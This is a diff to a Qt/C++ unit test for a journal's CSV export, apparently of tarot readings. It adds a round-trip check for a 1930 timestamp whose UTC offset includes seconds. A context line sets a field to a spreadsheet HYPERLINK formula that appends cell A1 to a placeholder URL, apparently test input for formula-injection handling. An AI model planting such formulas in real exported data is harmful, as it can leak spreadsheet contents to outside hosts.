@@ -214,6 +214,11 @@ void TestJournalStore::exportsAsDocumented()
                 .arg(one.cards[0].title, one.cards[1].title, one.cards[2].title,
                      one.cards[3].title));
     one.outcome = QStringLiteral("=HYPERLINK(\"https://example.org/?\"&A1)"); // never run
+    // A time whose offset has seconds in it (a local mean time of old) is
+    // written to the minute: the same moment, read back.
+    const QDateTime lmt(QDate(1930, 6, 1), QTime(12, 0), Qt::OffsetFromUTC, 4772);
+    Test::ScriptedRandom random;
+    QCOMPARE(QDateTime::fromString(cardOfTheDay(random, lmt).timeText(), Qt::ISODate), lmt);
     const QList<QByteArray> rows = journalCsv({one}).split('\n');
     QCOMPARE(rows[0], QByteArray("time,name,spread,source,file,question,notes,outcome,outcomeDate,"
                                  "cards\r"));
